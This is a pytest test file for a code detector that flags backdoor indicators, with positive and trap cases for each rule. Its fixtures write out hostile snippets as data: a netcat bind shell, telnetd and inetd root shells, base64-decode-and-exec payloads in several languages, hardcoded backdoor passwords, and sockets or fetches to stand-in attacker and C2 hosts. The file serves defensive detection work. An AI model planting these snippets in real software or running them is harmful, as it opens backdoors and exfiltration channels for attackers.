"""The access detector's indicator rules: one positive and trap case set per rule."""

from __future__ import annotations

from access_factory import brief, findings

COMPARE = "access.auth-literal-compare"
LISTENER = "access.fixed-port-listener"
ENDPOINT = "access.debug-endpoint"
DAEMON = "access.remote-shell-daemon"
DECODE = "access.decode-exec"
OUTBOUND = "access.outbound-host"


# ---------------------------------------------------------------------- auth-literal-compare


def test_password_compared_with_literal_in_python_login() -> None:
    text = ('def login(user, password):\n'
            '    if password == "letmein42":\n'
            '        return True\n'
            '    if mode == "debug":\n'
            '        return False\n'
            '    if password == "":\n'
            '        return False\n'
            '    if password_type == "bcrypt":\n'
            '        return False\n')
    assert brief("app/auth.py", text, COMPARE) == [(COMPARE, 2, "high")]


def test_compare_outside_auth_code_is_medium() -> None:
    text = 'x = 1\nif api_token != "k-9f8e7d6c5b":\n    deny()\n'
    assert brief("svc/handler.py", text, COMPARE) == [(COMPARE, 2, "medium")]


def test_java_equals_both_ways() -> None:
    text = ('class Login {\n'
            '  boolean authenticate(String user, String password) {\n'
            '    if (password.equals("Sup3rAdm1n")) return true;\n'
            '    if ("backd00r!".equals(password)) return true;\n'
            '    if (mode.equals("debug")) return false;\n'
            '    return password.equals(stored);\n'
            '  }\n'
            '}\n')
    assert brief("src/Login.java", text, COMPARE) == [(COMPARE, 3, "high"), (COMPARE, 4, "high")]


def test_c_strcmp_with_user_compare_is_high() -> None:
    text = ('int ok(const char *user, const char *pass) {\n'
            '    if (strcmp(user, "root") == 0 && strcmp(pass, "xc3511") == 0) return 1;\n'
            '    if (strcmp(pass, buffer) == 0) return 1;\n'
            '    return strcmp(token, "(") == 0;\n'
            '}\n')
    assert brief("src/login.c", text, COMPARE) == [(COMPARE, 2, "high")]


def test_go_js_php_csharp_shell() -> None:
    assert brief("main.go", 'if apiKey == "k-9f8e7d6c5b" {\n}\nif token == "(" {\n}\n',
                 COMPARE) == [(COMPARE, 1, "medium")]
    assert brief("a.js", 'if (req.body.password === "hunter2hunter") { ok(); }\n'
                         'if (type === "password") {}\n', COMPARE) == [(COMPARE, 1, "medium")]
    assert brief("x.php", "<?php\nif ($_POST['pass'] == 'god123mode') { run(); }\n"
                          "if ($pass == 'yes') {}\n", COMPARE) == [(COMPARE, 2, "medium")]
    assert brief("P.cs", 'if (password == "P@ssw0rd2024") {}\nif (password == null) {}\n',
                 COMPARE) == [(COMPARE, 1, "medium")]
    assert brief("check.sh", '#!/bin/sh\nif [ "$PASSWORD" = "s3cr3tpass" ]; then\n  ok\nfi\n'
                             'if [ "$PASSWORD" = "" ]; then :; fi\n',
                 COMPARE) == [(COMPARE, 2, "medium")]


def test_compared_literal_is_redacted() -> None:
    found = findings("app/auth.py", 'def login(u, password):\n    if password == "letmein42":\n'
                                    '        pass\n')
    assert [f.evidence for f in found] == ['password compared with a literal "***" (9 chars)']
    assert "letmein42" not in found[0].model_dump_json()


def test_placeholders_and_names_are_not_credentials() -> None:
    text = ('if password == "changeme":\n    pass\n'
            'if password == "PASSWORD_KEY":\n    pass\n'
            'if password == "none":\n    pass\n'
            'if password == "${PASS}":\n    pass\n'
            'if password == "Enter a password":\n    pass\n')
    assert brief("a.py", text, COMPARE) == [(COMPARE, 1, "medium")]
    assert brief("a.py", text.replace('"changeme"', '"xxxx"'), COMPARE) == []


# ---------------------------------------------------------------------- fixed-port-listener


def test_python_listeners_and_backlog_trap() -> None:
    text = ('s.bind(("", 4444))\n'
            's.listen(5)\n'
            's.bind(("127.0.0.1", 8000))\n'
            's.bind((HOST, PORT))\n'
            'app.run(host="0.0.0.0", port=5000)\n'
            'app.run(port=5000)\n'
            's.bind(("0.0.0.0", 0))\n')
    assert brief("srv.py", text, LISTENER) == [(LISTENER, 1, "medium"), (LISTENER, 5, "medium")]


def test_java_go_js_csharp_php_listeners() -> None:
    assert brief("S.java", "ServerSocket s = new ServerSocket(31337);\n"
                           "ServerSocket t = new ServerSocket(port);\n",
                 LISTENER) == [(LISTENER, 1, "medium")]
    assert brief("m.go", 'http.ListenAndServe(":8080", nil)\nnet.Listen("tcp", "127.0.0.1:9000")\n'
                         'net.Listen("tcp", addr)\n', LISTENER) == [(LISTENER, 1, "medium")]
    assert brief("s.js", "app.listen(3000);\napp.listen(process.env.PORT || 3000);\n",
                 LISTENER) == [(LISTENER, 1, "medium")]
    assert brief("L.cs", "var l = new TcpListener(IPAddress.Any, 8888);\n"
                         "var m = new TcpListener(IPAddress.Loopback, 8888);\n",
                 LISTENER) == [(LISTENER, 1, "medium")]
    assert brief("s.php", "<?php\n$s = stream_socket_server('tcp://0.0.0.0:1337');\n",
                 LISTENER) == [(LISTENER, 2, "medium")]


def test_c_htons_needs_a_listen_call() -> None:
    server = ("addr.sin_port = htons(2323);\nbind(fd, (void *)&addr, sizeof addr);\n"
              "listen(fd, 5);\n")
    client = "addr.sin_port = htons(80);\nconnect(fd, (void *)&addr, sizeof addr);\n"
    assert brief("srv.c", server, LISTENER) == [(LISTENER, 1, "medium")]
    assert brief("cli.c", client, LISTENER) == []


def test_netcat_bind_shell_is_high() -> None:
    text = "#!/bin/sh\nnc -l -p 4444 -e /bin/sh &\nnc -l 9999 > /tmp/x\n"
    assert brief("tools/x.sh", text, LISTENER) == [(LISTENER, 2, "high"), (LISTENER, 3, "medium")]


# ---------------------------------------------------------------------- debug-endpoint


def test_debug_and_backdoor_routes() -> None:
    assert brief("app.js", "app.get('/backdoor', (req, res) => res.send(1));\n"
                           "app.get('/api/users', list);\n", ENDPOINT) == [(ENDPOINT, 1, "high")]
    assert brief("v.py", '@app.route("/debug/exec")\ndef x():\n    pass\n'
                         '@app.route("/login")\ndef y():\n    pass\n',
                 ENDPOINT) == [(ENDPOINT, 1, "medium")]
    assert brief("C.java", '@GetMapping("/maintenance/shell")\npublic String s() {}\n',
                 ENDPOINT) == [(ENDPOINT, 1, "high")]
    assert brief("m.go", 'http.HandleFunc("/debug/pprof/", pprof.Index)\n'
                         'http.HandleFunc("/diag/cmd", run)\n',
                 ENDPOINT) == [(ENDPOINT, 2, "medium")]
    assert brief("C.cs", '[HttpPost("debug/console")]\npublic void X() {}\n',
                 ENDPOINT) == [(ENDPOINT, 1, "medium")]
    assert brief("routes.php", "<?php\nRoute::get('/diag/console', 'D@run');\n",
                 ENDPOINT) == [(ENDPOINT, 2, "medium")]
    assert brief("application.properties",
                 "management.endpoints.web.exposure.include=*\n",
                 ENDPOINT) == [(ENDPOINT, 1, "medium")]


# ---------------------------------------------------------------------- remote-shell-daemon


def test_telnetd_in_rcs() -> None:
    text = ("#!/bin/sh\nmount -t proc proc /proc\n/usr/sbin/telnetd -l /bin/sh &\n"
            "killall telnetd\n# telnetd -l /bin/sh\necho starting telnetd\n")
    assert brief("fw.bin!/etc/init.d/rcS", text, DAEMON) == [(DAEMON, 3, "high")]


def test_inittab_inetd_and_init_scripts() -> None:
    assert brief("etc/inittab", "::sysinit:/etc/init.d/rcS\n::respawn:/usr/sbin/telnetd -F\n"
                                "ttyS0::respawn:/bin/sh\n", DAEMON) == [(DAEMON, 2, "medium")]
    inetd = ("ftp stream tcp nowait root /usr/sbin/ftpd ftpd\n"
             "telnet stream tcp nowait root /usr/sbin/telnetd telnetd\n"
             "1524 stream tcp nowait root /bin/sh sh -i\n")
    assert brief("etc/inetd.conf", inetd, DAEMON) == [(DAEMON, 2, "medium"), (DAEMON, 3, "high")]
    script = ("#!/bin/sh\ncase \"$1\" in\n  start)\n"
              "    start-stop-daemon -S -q -x /usr/sbin/dropbear -- -B -p 22\n    ;;\n"
              "  stop)\n    killall dropbear\n    ;;\nesac\n")
    assert brief("etc/init.d/S50dropbear", script, DAEMON) == [(DAEMON, 4, "high")]
    assert brief("etc/init.d/S50sshd", "#!/bin/sh\n/usr/sbin/sshd -D &\n",
                 DAEMON) == [(DAEMON, 2, "low")]
    assert brief("lib/systemd/system/telnet.service",
                 "[Service]\nExecStart=/usr/sbin/in.telnetd -debug\n",
                 DAEMON) == [(DAEMON, 2, "medium")]


def test_sshd_config() -> None:
    text = ("#PermitRootLogin prohibit-password\nPermitRootLogin yes\n"
            "PermitEmptyPasswords yes\nPermitEmptyPasswords no\n")
    assert brief("etc/ssh/sshd_config", text, DAEMON) == [(DAEMON, 2, "medium"),
                                                          (DAEMON, 3, "high")]


def test_daemons_in_source_code_are_not_start_up() -> None:
    assert brief("src/telnetd.c", 'execl("/usr/sbin/telnetd", "telnetd", "-l", "/bin/sh");\n',
                 DAEMON) == []


# ---------------------------------------------------------------------- decode-exec


def test_decode_exec_in_many_languages() -> None:
    cases = {
        "a.py": "exec(base64.b64decode(PAYLOAD))\n",
        "b.py": "exec(zlib.decompress(base64.b64decode(p)))\n",
        "c.js": "eval(atob(req.query.c));\n",
        "d.js": "new Function(Buffer.from(payload, 'base64').toString())();\n",
        "e.php": "<?php eval(gzinflate(base64_decode('7X1rcxs5kuB3R')));\n",
        "f.sh": 'echo "ZWNobyBoaQ==" | base64 -d | sh\n',
        "g.ps1": "powershell.exe -NoP -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBi\n",
        "h.java": "Runtime.getRuntime().exec(new String(Base64.getDecoder().decode(c)));\n",
        "i.cs": "var a = Assembly.Load(Convert.FromBase64String(blob));\n",
        "j.rb": "eval(Base64.decode64(data))\n",
    }
    for path, text in cases.items():
        assert brief(path, text, DECODE) == [(DECODE, 1, "high")], path


def test_decode_without_exec_is_not_reported() -> None:
    cases = {
        "a.py": "data = base64.b64decode(blob)\nresult = re.compile(p).search(data)\n",
        "b.js": "const s = atob(x);\nconst m = /a/.exec(s);\n",
        "c.php": "<?php $img = base64_decode($row['image']);\n",
        "d.sh": "echo $CERT | base64 -d > /tmp/cert.pem\n",
        "e.py": "# exec(base64.b64decode(PAYLOAD))\n",
    }
    for path, text in cases.items():
        assert brief(path, text, DECODE) == [], path


# ---------------------------------------------------------------------- outbound-host


def test_public_addresses_and_hosts_in_connection_calls() -> None:
    text = ('HOST = "45.33.32.156"\n'
            'LAN = "192.168.1.10"\n'
            'DOC = "203.0.113.9"\n'
            'VERSION = "3.10.2.4"\n'
            'OID = "2.5.29.17"\n'
            'NET = "91.121.55.0/24"\n'
            's.connect(("185.220.101.4", 4444))\n'
            'requests.post("https://paste-collector.io/api", data=x)\n'
            'requests.get("https://www.example.com/x")\n'
            'urlopen("http://localhost:8080/")\n'
            'schema = "http://www.w3.org/2001/XMLSchema"\n')
    assert brief("agent.py", text, OUTBOUND) == [(OUTBOUND, 1, "medium"), (OUTBOUND, 7, "high"),
                                                  (OUTBOUND, 8, "medium")]


def test_outbound_in_other_languages() -> None:
    assert brief("C.java", 'Socket c = new Socket("evil.attacker.net", 4444);\n',
                 OUTBOUND) == [(OUTBOUND, 1, "high")]
    assert brief("m.go", 'conn, _ := net.Dial("tcp", "c2.badhost.io:443")\n',
                 OUTBOUND) == [(OUTBOUND, 1, "high")]
    assert brief("a.js", 'fetch("https://api.exfil-collector.com/upload");\n',
                 OUTBOUND) == [(OUTBOUND, 1, "medium")]
    assert brief("c.c", '#define C2 "185.220.101.4"\n', OUTBOUND) == [(OUTBOUND, 1, "medium")]
    assert brief("etc/init.d/rcS", "#!/bin/sh\nwget -q http://91.121.55.3/bot -O /tmp/b\n",
                 OUTBOUND) == [(OUTBOUND, 2, "medium")]


def test_docstrings_and_comments_are_not_code() -> None:
    text = ('def f():\n    """Example:\n\n    urlopen("http://mirror.python-mirrors.net/")\n'
            '    """\n    # requests.get("https://collector.evil-host.net/")\n    return 1\n')
    assert brief("lib/m.py", text) == []


def test_credential_words_inside_other_words_are_not_credentials() -> None:
    from anke.detect.access import AccessDetector

    detector = AccessDetector()
    for line in (b'if compass == "north":\n    turn()\n', b'if bypass == "yes":\n    go()\n'):
        assert detector.detect("src/nav.py", line).findings == []
    hit = detector.detect("src/auth.py", b'if user.password == "letmein":\n    ok()\n')
    assert [f.rule for f in hit.findings] == ["access.auth-literal-compare"]


def test_debug_words_outside_a_route_path_wake_nothing() -> None:
    from anke.detect.access import AccessDetector

    detector = AccessDetector()
    text = b"console.log('debug mode', x);\napp.get('/debug/shell', handler);\n"
    assert [(f.rule, f.line) for f in detector.detect("web/app.js", text).findings] == [
        ("access.debug-endpoint", 2)]
